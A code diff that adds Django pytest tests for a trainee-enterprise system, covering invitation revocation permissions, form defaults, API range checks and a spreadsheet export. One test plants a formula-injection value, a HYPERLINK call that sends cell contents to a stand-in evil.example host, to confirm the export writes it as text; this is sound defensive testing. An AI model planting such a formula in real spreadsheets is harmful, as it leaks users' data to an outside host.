@@ -94,7 +94,9 @@ def test_enterprise_pages_by_district(client, world, who, name):
     expected = ENTERPRISE_EXPECTED[who]
     status = status_for(client, user, method, url, {"action": "suspend", "reason": "", "is_key": ""})
     if expected == 200 and method == "post":
-        assert status in {200, 302, 400}  # allowed; the empty form is refused or saved, never a 403/404
+        # allowed: a suspension without its ground is refused with the form (400); clearing the key
+        # enterprise flag needs no reason and is saved (302 back to the enterprise)
+        assert status == {"enterprise_transition": 400, "enterprise_key": 302}[name]
     else:
         assert status == expected
     if expected != 200:
@@ -190,6 +192,49 @@ def test_invitation_page_and_invite_permissions(client, world, django_capture_on
     invitee.refresh_from_db()
     assert invitee.enterprise == world.a and invitee.position == "it"
     assert client.get(reverse("trainees:invitation_accept", args=["nonsense"])).status_code == 404
+
+
+def test_invitations_are_listed_and_revoked_by_the_administrator_only(client, world):
+    from trainees.models import EnterpriseInvitation
+
+    client.force_login(world.staff_a)
+    client.post(reverse("trainees:staff_invite"), {"email": "y@example.com", "position": "it"})
+    invitation = EnterpriseInvitation.objects.get(email="y@example.com")
+    page = client.get(reverse("trainees:my_enterprise")).content.decode()
+    assert "y@example.com" in page and "data-confirm" in page
+    revoke = reverse("trainees:invitation_revoke", args=[invitation.pk])
+    assert status_for(client, world.staff_b, "post", revoke) == 404  # another enterprise's
+    assert status_for(client, world.clerk_a, "post", revoke) == 403  # not the administrator
+    assert status_for(client, world.gacc, "post", revoke) == 403  # officers do not act for staff
+    assert status_for(client, world.staff_a, "post", revoke) == 302
+    invitation.refresh_from_db()
+    assert invitation.revoked_at is not None and invitation.revoked_by == world.staff_a
+
+
+def test_a_revoked_invitation_cannot_be_accepted(client, world):
+    from trainees import services
+
+    invitation, token = services.invitation_send(
+        enterprise_id=world.a.id, email="z@example.com", position="it", actor=world.staff_a, accept_url="/x/{token}/"
+    )
+    services.invitation_revoke(invitation_id=invitation.pk, actor=world.staff_a)
+    invitee = UserFactory(email="z@example.com")
+    client.force_login(invitee)
+    client.post(reverse("trainees:invitation_accept", args=[token]))
+    invitee.refresh_from_db()
+    assert invitee.enterprise is None
+
+
+def test_invite_form_has_no_default_position(client, world):
+    client.force_login(world.staff_a)
+    page = client.get(reverse("trainees:my_enterprise")).content.decode()
+    select = page[page.index('name="position"') :]
+    select = select[: select.index("</select>")]
+    assert '<option value="" selected>' in select
+    response = client.post(reverse("trainees:staff_invite"), {"email": "w@example.com", "position": ""})
+    from trainees.models import EnterpriseInvitation
+
+    assert response.status_code == 302 and not EnterpriseInvitation.objects.filter(email="w@example.com").exists()
 
 
 # --- the officer workflow through the pages ----------------------------------------------------
@@ -455,3 +500,46 @@ def test_query_count_does_not_grow_with_rows(client, world, page_name):
         services.round_publish(round_id=round_.pk, actor=None)
     large = _queries(client, url())
     assert large == small, f"{page}: {small} queries for 10 rows, {large} for 100"
+
+
+def test_key_list_export_writes_a_formula_like_nominee_name_as_text(client, world):
+    world.app.nominees.update(name="=1+2")
+    world.a.name_zh = '=HYPERLINK("http://evil.example/?"&A3,"x")'
+    world.a.save()
+    client.force_login(world.shenzhen)
+    export = client.get(reverse("trainees:round_export", args=[world.round.pk]) + "?type=compliance")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value is not None}
+    assert cells["=1+2"].data_type == "s"
+    assert cells[world.a.name_zh].data_type == "s"
+    assert sheet.freeze_panes == "A3"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/trainees/enterprises?offset=99999999999999999999999",
+        "/api/trainees/enterprises?offset=-1",
+        "/api/trainees/applications?round_id=99999999999999999999999",
+        "/api/trainees/applications?offset=1e400",
+    ],
+)
+def test_api_numbers_out_of_range_are_refused_with_4xx(client, world, url):
+    client.force_login(world.shenzhen)
+    assert client.get(url).status_code == 422
+
+
+def test_api_transition_with_an_overlong_field_is_refused_with_4xx(client, world):
+    client.force_login(world.shenzhen)
+    response = client.post(
+        f"/api/trainees/enterprises/{world.a.pk}/transitions",
+        {"action": "suspend", "ground": "x" * 5000, "evidence_reference": "y" * 5000},
+        content_type="application/json",
+    )
+    assert response.status_code == 422
+
+
+@pytest.mark.parametrize("round_id", ["²", "99999999999999999999999", "-1", "1e400"])
+def test_application_list_ignores_a_round_that_is_not_a_number(client, world, round_id):
+    client.force_login(world.shenzhen)
+    assert client.get(reverse("trainees:application_list"), {"round": round_id}).status_code == 200
